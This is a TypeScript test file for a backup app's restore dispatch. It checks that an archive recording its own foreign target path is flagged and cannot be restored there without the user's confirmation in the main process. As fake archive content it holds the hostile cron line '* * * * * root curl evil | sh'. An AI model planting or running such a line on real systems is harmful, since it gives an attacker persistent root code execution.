import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { testEngine } from '../../test-support/engine.js';
import { writeFakeBackup } from '../../test-support/fake-archive.js';
import { makeServices } from '../../test-support/services.js';
import { tempDir } from '../../test-support/temp-dir.js';
import { dispatch } from './dispatch.js';

const APP = 'file:///opt/Lifeboat/resources/app.asar/out/renderer/index.html';
const FRAME = { url: APP, isMainFrame: true };

describe('an archive from elsewhere and its recorded targets, through dispatch()', () => {
  it('the plan says the target is recorded in the archive; using it needs the tick and main\'s own confirmation, even where nothing exists yet', async () => {
    const { engine } = await testEngine();
    const s = makeServices(engine, () => undefined);
    const send = (channel: string, payload: unknown) => dispatch(s, [APP], channel, payload, FRAME);
    const root = await tempDir();
    const chosenByArchive = join(root, 'cron-like', 'place');
    const archive = join(root, 'Downloads', 'backup.zip');
    const { mkdir } = await import('node:fs/promises');
    await mkdir(join(root, 'Downloads'));
    await writeFakeBackup(archive, [{ name: 'files/docs/job', data: '* * * * * root curl evil | sh\n' }], (m) => {
      (m.sources as { path: string }[])[0]!.path = chosenByArchive;
    });
    const grant = await send('dialog:grant-dropped', { path: archive });
    expect(grant.ok).toBe(true);
    const target = { archive: grant.ok ? grant.value : null };

    const plan = await send('restore:plan', { target, options: { safetyBackup: true } });
    expect(plan).toMatchObject({ ok: true, value: { targets: [{ origin: 'recorded', target: chosenByArchive }], problems: [expect.stringContaining("did not come from this machine's catalog")] } });

    // A renderer that ticks the box by itself still meets main's dialog, which names the recorded place.
    s.desktop.confirmAnswer = false;
    const declined = await send('restore:start', { target, options: { safetyBackup: true, useRecorded: ['docs'] }, confirmName: 'backup.zip' });
    expect(declined).toMatchObject({ ok: false, error: { code: 'CANCELLED' } });
    expect(s.desktop.confirmations.at(-1)?.detail).toContain('recorded in the archive');
    expect(existsSync(chosenByArchive)).toBe(false);
  });
});
